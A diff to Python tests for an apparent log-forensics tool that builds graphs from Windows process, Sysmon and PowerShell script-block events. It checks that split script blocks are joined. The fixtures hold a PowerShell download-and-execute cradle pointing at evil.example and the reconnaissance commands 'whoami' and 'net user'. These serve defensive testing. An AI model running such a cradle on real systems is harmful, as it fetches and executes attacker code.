@@ -34,6 +34,18 @@ def ingest(store: Any, tmp_path: Path, records: list[dict[str, Any]], name: str 
     return snapshot(store)
 
 
+def one_record_per_call(store: Any, tmp_path: Path, records: list[dict[str, Any]]) -> tuple[dict, dict]:
+    """The graph of ``records`` ingested one per call (each call a new process, which reads the join
+    state back from the journal), and the graph a replay of the journal rebuilds."""
+    with Journal(tmp_path / "journal.sqlite") as journal:
+        for record in records:
+            replay_module._RESUMABLE.clear()
+            assert ingest_records([record], store=store, journal=journal, origin="api").total.accepted == 1
+        live = snapshot(store)
+        replay(journal, store)
+        return live, snapshot(store)
+
+
 def edges(graph: dict[str, Any], type_: str) -> set:
     return {(src, dst) for src, kind, dst in graph["relations"] if kind == type_}
 
@@ -106,15 +118,8 @@ def test_a_reused_pid_of_another_image_is_not_the_parent(store, tmp_path):
 
 
 def test_a_4688_chain_across_ingest_calls_is_the_replayed_graph(embedded_store, tmp_path):
-    """The pid holders are join state: one record per call (each call a new process, reading the
-    state back from the journal) makes the graph one replay of the journal makes."""
-    with Journal(tmp_path / "journal.sqlite") as journal:
-        for record in CHAIN:
-            replay_module._RESUMABLE.clear()
-            assert ingest_records([record], store=embedded_store, journal=journal, origin="api").total.accepted == 1
-        live = snapshot(embedded_store)
-        replay(journal, embedded_store)
-        rebuilt = snapshot(embedded_store)
+    """The pid holders are join state: one record per call makes the graph one replay makes."""
+    live, rebuilt = one_record_per_call(embedded_store, tmp_path, CHAIN)
     assert (process(CMD, "cmd.exe /c whoami"), process(NET, "net user")) in edges(live, "SPAWNED")
     for part in ("counts", "entities", "relations", "sightings"):
         assert live[part] == rebuilt[part], part
@@ -292,3 +297,42 @@ def test_an_inbound_sysmon_connection_is_from_the_peer_to_the_host_and_its_proce
     graph = ingest(store, tmp_path, [inbound])
     svchost = process("C:\\Windows\\System32\\svchost.exe")
     assert edges(graph, "CONNECTED") == {(ip("10.1.9.9"), host("ws-0043")), (ip("10.1.9.9"), svchost)}
+
+
+# -- M3: a block logged in parts is also one script of its whole text -------------------------
+
+BLOCK_ID = "{4a1b2c3d-0000-4000-8000-00000000abcd}"
+WHOLE = "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://evil.example/stage2.ps1')"
+PARTS = [WHOLE[:20], WHOLE[20:50], WHOLE[50:]]  # cut anywhere, as PowerShell cuts ~32 KB parts
+
+
+def script_part(number: int, record_id: int, host_name: str = "WS-0042") -> dict[str, Any]:
+    return winlog("Microsoft-Windows-PowerShell/Operational", 4104, record_id,
+                  f"2024-03-05T10:55:0{number}Z",
+                  {"MessageNumber": str(number), "MessageTotal": str(len(PARTS)),
+                   "ScriptBlockText": PARTS[number - 1], "ScriptBlockId": BLOCK_ID}, computer=host_name)
+
+
+def test_the_parts_of_a_long_script_block_are_also_one_script_of_the_whole_text(store, tmp_path):
+    graph = ingest(store, tmp_path, [script_part(n, n) for n in (1, 3, 2)])  # in any order
+    scripts = {key: value for key, value in graph["entities"].items() if key[0] == "script"}
+    (whole,) = [key for key, (_, props) in scripts.items() if dict(props).get("parts") == 3]
+    assert dict(scripts[whole][1])["text"] == WHOLE
+    assert len(scripts) == 4  # each part stays a script of its own: a lost part loses no other
+    assert (host("ws-0042"), whole) in edges(graph, "EXECUTED")
+    # the text across a cut ("DownloadString" is split between parts 2 and 3) is found
+    assert [hit.entity.key for hit in store.search_entities("DownloadString", entity_type="script")] == [whole[1]]
+
+
+def test_a_script_block_missing_a_part_is_not_joined(store, tmp_path):
+    graph = ingest(store, tmp_path, [script_part(1, 1), script_part(3, 3),
+                                     script_part(2, 4, host_name="WS-0043")])  # part 2 on another host
+    assert not [props for key, (_, props) in graph["entities"].items() if key[0] == "script" and
+                dict(props).get("parts")]
+
+
+def test_the_parts_of_a_script_block_across_ingest_calls_join_as_in_a_replay(embedded_store, tmp_path):
+    live, rebuilt = one_record_per_call(embedded_store, tmp_path, [script_part(n, n) for n in (1, 2, 3)])
+    assert [key for key, (_, props) in live["entities"].items() if dict(props).get("parts") == 3]
+    for part in ("counts", "entities", "relations", "sightings"):
+        assert live[part] == rebuilt[part], part
